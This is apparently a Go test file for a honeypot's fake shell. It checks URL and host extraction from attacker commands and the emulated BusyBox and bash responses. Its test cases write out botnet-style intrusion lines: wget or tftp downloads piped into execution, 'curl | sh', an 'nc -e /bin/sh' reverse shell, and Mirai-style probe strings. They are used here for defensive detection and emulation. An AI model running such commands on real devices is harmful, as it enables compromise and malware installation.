package shell

import (
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestExtract(t *testing.T) {
	for _, tc := range []struct {
		line        string
		urls, hosts []string
	}{
		{"cd /tmp; wget http://203.0.113.7/x.sh; chmod 777 x.sh; sh x.sh",
			[]string{"http://203.0.113.7/x.sh"}, []string{"203.0.113.7"}},
		{"/bin/busybox tftp -g -r mips 198.51.100.9 6969",
			[]string{"tftp://198.51.100.9:6969/mips"}, []string{"198.51.100.9"}},
		{"tftp -g -l dvrHelper -r arm7 192.0.2.5",
			[]string{"tftp://192.0.2.5/arm7"}, []string{"192.0.2.5"}},
		{"tftp 198.51.100.20 -c get tftp1.sh",
			[]string{"tftp://198.51.100.20/tftp1.sh"}, []string{"198.51.100.20"}},
		{"ftpget -v -u anonymous -p anonymous -P 2121 192.0.2.8 a.sh a.sh",
			[]string{"ftp://192.0.2.8:2121/a.sh"}, []string{"192.0.2.8"}},
		{"curl -s 'https://example.com/a b' | sh", []string{"https://example.com/a"}, nil},
		{"nc 192.0.2.1:4444 -e /bin/sh; echo 999.1.1.1", nil, []string{"192.0.2.1:4444"}},
		{"uname -a", nil, nil},
	} {
		u, h := Extract(tc.line)
		if !reflect.DeepEqual(u, tc.urls) || !reflect.DeepEqual(h, tc.hosts) {
			t.Errorf("%q: urls %q hosts %q; want %q %q", tc.line, u, h, tc.urls, tc.hosts)
		}
	}
}

func TestRunBusyBox(t *testing.T) {
	s := New(NewHost("cam", "", true, "root"))
	for _, tc := range []struct{ in, out string }{
		{"enable", "-sh: enable: not found\n"},
		{"system", "-sh: system: not found\n"},
		{"shell", "-sh: shell: not found\n"},
		{"sh", ""},
		{"/bin/busybox ECCHI", "ECCHI: applet not found\n"},
		{"/bin/busybox echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'", "gayfgt\n"},
		{"echo -n hi; echo there", "hithere\n"},
		{"uname -a", "Linux cam 3.10.14 #1 SMP PREEMPT Thu Mar 4 10:21:42 CST 2021 armv7l GNU/Linux\n"},
		{"uname -m", "armv7l\n"},
		{"cd /nowhere", "-sh: cd: can't cd to /nowhere: No such file or directory\n"},
		{"cd /tmp && pwd", "/tmp\n"},
		{"wget http://203.0.113.7/x.sh -O x.sh", "Connecting to 203.0.113.7\nwget: can't connect to remote host: Connection timed out\n"},
		{"cat /nope", "cat: can't open '/nope': No such file or directory\n"},
		{"id", "uid=0(root) gid=0(root) groups=0(root)\n"},
		{"frobnicate", "-sh: frobnicate: not found\n"},
	} {
		out, f := s.Run(tc.in)
		if out != tc.out {
			t.Errorf("%q: %q, want %q", tc.in, out, tc.out)
		}
		if len(f) == 0 || f[0].Key != "command" || f[0].Value != tc.in {
			t.Errorf("%q: fields %v", tc.in, f)
		}
	}
	if !strings.HasPrefix(cpuinfo("armv7l"), "processor") {
		t.Error("cpuinfo")
	}
	if s.Prompt() != "# " {
		t.Errorf("prompt %q", s.Prompt())
	}
	s.Run("exit")
	if !s.Done() {
		t.Error("exit did not end the shell")
	}
}

func TestRunBash(t *testing.T) {
	s := New(NewHost("web1", "", false, "admin"))
	if p := s.Prompt(); p != "admin@web1:~$ " {
		t.Errorf("prompt %q", p)
	}
	for _, tc := range []struct{ in, out string }{
		{"whoami", "admin\n"},
		{"/bin/busybox BOTNET", "BOTNET: applet not found\n"},
		{"enable", "-bash: enable: command not found\n"},
		{"cat /proc/cpuinfo | grep name", ""}, // grep is a second command: not found below
		{"uname -r", "5.10.0-28-amd64\n"},
		{"", ""},
	} {
		out, f := s.Run(tc.in)
		if tc.in == "cat /proc/cpuinfo | grep name" {
			if !strings.Contains(out, "model name") {
				t.Errorf("cpuinfo: %q", out)
			}
			continue
		}
		if out != tc.out {
			t.Errorf("%q: %q, want %q", tc.in, out, tc.out)
		}
		if tc.in == "" && f != nil {
			t.Errorf("blank line recorded: %v", f)
		}
	}
}

func FuzzRun(f *testing.F) {
	f.Add("cd /tmp; wget http://203.0.113.7/x.sh; chmod 777 x.sh; sh x.sh")
	f.Add("/bin/busybox tftp -g -r mips 198.51.100.9 6969")
	f.Add("echo -e '\\x41\\0101\\x'")
	f.Add("ftpget -P 1 192.0.2.8 a")
	f.Fuzz(func(t *testing.T, line string) {
		s := New(NewHost("h", "", len(line)%2 == 0, "root"))
		out, fields := s.Run(line)
		if len(out) > maxOut {
			t.Fatalf("output %d bytes", len(out))
		}
		for _, fl := range fields {
			switch v := fl.Value.(type) {
			case string:
				if !utf8.ValidString(v) {
					t.Fatalf("field %s not UTF-8", fl.Key)
				}
			case []string:
				if len(v) > maxList {
					t.Fatalf("%s: %d entries", fl.Key, len(v))
				}
			}
		}
	})
}
